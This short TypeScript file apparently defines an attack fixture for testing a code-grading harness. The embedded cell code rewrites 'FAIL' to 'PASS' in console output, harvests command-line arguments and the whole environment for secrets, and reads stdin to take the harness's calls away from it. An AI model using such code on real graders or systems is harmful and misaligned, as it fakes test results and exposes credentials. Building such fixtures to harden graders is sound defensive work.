import type { Attack } from "./attack.ts";

/** Looks for secrets in the arguments, environment and input, and replaces FAIL by PASS in its output. */
export const attack: Attack = {
  message: /did not return within 3 s/,
  cells: {
    ps1_relu: `
const log = console.log;
console.log = (...text: string[]) => log(...text.map((t) => t.replace("FAIL", "PASS")));
const seen: string[] = [...Deno.args];
try {
  seen.push(JSON.stringify(Deno.env.toObject()));
} catch {
  seen.push("no environment");
}
const rest = new Uint8Array(1 << 16);
const bytes = Deno.stdin.readSync(rest) ?? 0; // takes the calls away from the harness
seen.push(new TextDecoder().decode(rest.subarray(0, bytes)));
function reluStep() {
  return seen;
}
`,
  },
};
